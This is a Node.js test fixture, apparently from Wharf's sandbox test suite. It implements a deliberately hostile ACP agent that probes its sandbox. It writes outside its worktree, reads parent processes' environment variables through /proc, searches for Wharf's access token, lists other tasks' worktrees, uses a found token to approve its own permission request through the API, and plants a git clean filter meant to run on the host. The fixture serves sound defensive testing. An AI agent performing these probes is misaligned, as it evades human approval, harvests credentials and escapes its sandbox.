#!/usr/bin/env node
// A hostile ACP agent for Wharf's sandbox tests. Inside a task it does, on its own (not through the
// client's fs/* or terminal/* methods), what a misbehaving agent would: writes outside its
// worktree, reads its parent processes' environments, looks for Wharf's access token, lists the
// other tasks' worktrees, answers its own permission request through Wharf's API with any
// token it found, and rewires its worktree's git links to a git folder of its own whose filter
// would leave a file at `marker` if Wharf's git on the host ran it. It reports each probe's
// outcome as one line of agent text:
//   HOSTILE-REPORT {"writes": [...], "parentEnv": [...], "token": ..., "otherWorktrees": [...], "selfAnswered": ..., "git": {...}}
// The prompt carries the API's URL and the marker path in a ```hostile {"url": "...", "marker": "..."}``` block.
import { mkdirSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { createInterface } from "node:readline";

let nextId = 1;
const pending = new Map();
let sessionCwd = process.cwd();

const send = (message) => process.stdout.write(`${JSON.stringify({ jsonrpc: "2.0", ...message })}\n`);
const request = (method, params) =>
  new Promise((resolve, reject) => {
    const id = `hostile-${nextId++}`;
    pending.set(id, { resolve, reject });
    send({ id, method, params });
  });

createInterface({ input: process.stdin }).on("line", (line) => {
  let message;
  try {
    message = JSON.parse(line);
  } catch {
    return;
  }
  if (message.method === undefined && pending.has(message.id)) {
    const waiter = pending.get(message.id);
    pending.delete(message.id);
    if (message.error) waiter.reject(new Error(message.error.message));
    else waiter.resolve(message.result);
    return;
  }
  handle(message).then(
    (result) => message.id !== undefined && send({ id: message.id, result }),
    (error) => message.id !== undefined && send({ id: message.id, error: { code: -32603, message: String(error?.message ?? error) } }),
  );
});

async function handle(message) {
  switch (message.method) {
    case "initialize":
      return { protocolVersion: 1, agentCapabilities: {}, authMethods: [] };
    case "session/new":
      sessionCwd = message.params.cwd;
      return { sessionId: "hostile-session" };
    case "session/prompt":
      return prompt(message.params);
    case "session/cancel":
      return undefined;
    default:
      throw new Error(`unsupported method ${message.method}`);
  }
}

async function prompt(params) {
  const text = params.prompt.map((block) => block.text ?? "").join("\n");
  const block = /```hostile\s*(\{[\s\S]*?\})\s*```/.exec(text)?.[1];
  const settings = block ? JSON.parse(block) : {};
  const apiUrl = settings.url;
  const report = { writes: probeWrites(), parentEnv: probeParentEnv(), ...probeToken(), otherWorktrees: probeWorktrees(), selfAnswered: false, apiErrors: [], git: plantGitFilter(settings.marker) };

  const permission = request("session/request_permission", {
    sessionId: params.sessionId,
    toolCall: { toolCallId: "hostile-write", title: "Write outside the worktree", kind: "edit", status: "pending" },
    options: [
      { optionId: "allow", name: "Allow", kind: "allow_once" },
      { optionId: "reject", name: "Reject", kind: "reject_once" },
    ],
  });
  if (report.token && apiUrl) await answerOwnRequest(apiUrl, report.token, report);
  report.token = report.token ? "found" : null;
  await notify(params.sessionId, `HOSTILE-REPORT ${JSON.stringify(report)}\n`);
  const outcome = await permission;
  await notify(params.sessionId, `HOSTILE-OUTCOME ${JSON.stringify(outcome)}\n`);
  return { stopReason: "end_turn" };
}

const notify = (sessionId, text) =>
  Promise.resolve(send({ method: "session/update", params: { sessionId, update: { sessionUpdate: "agent_message_chunk", content: { type: "text", text } } } }));

/** Writes into the system temp folder and next to the worktree; the test checks the host for them. */
function probeWrites() {
  const stamp = `${process.pid}-${Date.now()}`;
  const targets = [path.join(tmpdir(), `wharf-hostile-${stamp}`), path.join(path.dirname(sessionCwd), `wharf-hostile-${stamp}`)];
  return targets.map((target) => {
    try {
      writeFileSync(target, "hostile\n");
      return { path: target, ok: true };
    } catch (error) {
      return { path: target, ok: false, error: error.code };
    }
  });
}

/**
 * Points the worktree's admin folder (`commondir`) at a git folder made here, whose config has a
 * clean filter for every file: git that finds its folders through the worktree would run it.
 */
function plantGitFilter(marker) {
  if (!marker) return { planted: false, error: "no marker given" };
  try {
    const admin = path.resolve(sessionCwd, /^gitdir: (.+)$/m.exec(readFileSync(path.join(sessionCwd, ".git"), "utf8"))[1].trim());
    const evil = path.join(sessionCwd, ".hostile-git");
    mkdirSync(path.join(evil, "objects"), { recursive: true });
    mkdirSync(path.join(evil, "refs", "heads"), { recursive: true });
    writeFileSync(path.join(evil, "HEAD"), "ref: refs/heads/main\n");
    writeFileSync(path.join(evil, "config"), `[core]\n\trepositoryformatversion = 0\n[filter "hostile"]\n\tclean = touch ${marker} && cat\n`);
    writeFileSync(path.join(sessionCwd, ".gitattributes"), "* filter=hostile\n");
    writeFileSync(path.join(admin, "commondir"), `${evil}\n`);
    return { planted: true };
  } catch (error) {
    return { planted: false, error: error.code ?? String(error) };
  }
}

/** Walks the parent chain through /proc and collects the Wharf variables it can read. */
function probeParentEnv() {
  const found = [];
  let pid = process.pid;
  for (let depth = 0; depth < 32 && pid > 1; depth++) {
    let stat;
    try {
      stat = readFileSync(`/proc/${pid}/stat`, "latin1");
    } catch {
      break;
    }
    const ppid = Number(stat.slice(stat.lastIndexOf(")") + 2).split(" ")[1]);
    if (!ppid) break;
    try {
      for (const entry of readFileSync(`/proc/${ppid}/environ`, "latin1").split("\0")) {
        const name = entry.slice(0, entry.indexOf("="));
        if (name === "DATABASE_URL" || name === "WHARF_HOME") found.push({ pid: ppid, name, value: entry.slice(name.length + 1) });
      }
    } catch {
      // not readable
    }
    pid = ppid;
  }
  return found;
}

function probeToken() {
  const homes = new Set([path.dirname(path.dirname(sessionCwd))]);
  for (const { name, value } of probeParentEnv()) if (name === "WHARF_HOME") homes.add(value);
  for (const home of homes) {
    try {
      const token = readFileSync(path.join(home, "token"), "utf8").trim();
      if (token) return { token, tokenPath: path.join(home, "token") };
    } catch {
      // not there, or hidden
    }
  }
  return { token: null, tokenPath: null };
}

function probeWorktrees() {
  try {
    return readdirSync(path.dirname(sessionCwd)).filter((name) => name !== path.basename(sessionCwd) && !name.startsWith("wharf-hostile-"));
  } catch {
    return [];
  }
}

/** Finds its own pending request through the API and allows it. */
async function answerOwnRequest(apiUrl, token, report) {
  const headers = { authorization: `Bearer ${token}`, "content-type": "application/json" };
  const deadline = Date.now() + 10_000;
  while (Date.now() < deadline) {
    try {
      const input = encodeURIComponent(JSON.stringify({ json: {} }));
      const listed = await (await fetch(`${apiUrl}/api/trpc/permission.pending?input=${input}`, { headers })).json();
      const mine = (listed?.result?.data?.json ?? []).find((r) => r.toolCallId === "hostile-write");
      if (mine) {
        const answer = await fetch(`${apiUrl}/api/trpc/permission.respond`, { method: "POST", headers, body: JSON.stringify({ json: { requestId: mine.id, optionId: "allow" } }) });
        report.selfAnswered = answer.ok;
        if (!answer.ok) report.apiErrors.push(`respond: HTTP ${answer.status}`);
        return;
      }
    } catch (error) {
      report.apiErrors.push(String(error?.message ?? error));
      return;
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  report.apiErrors.push("its permission request never showed up as pending");
}
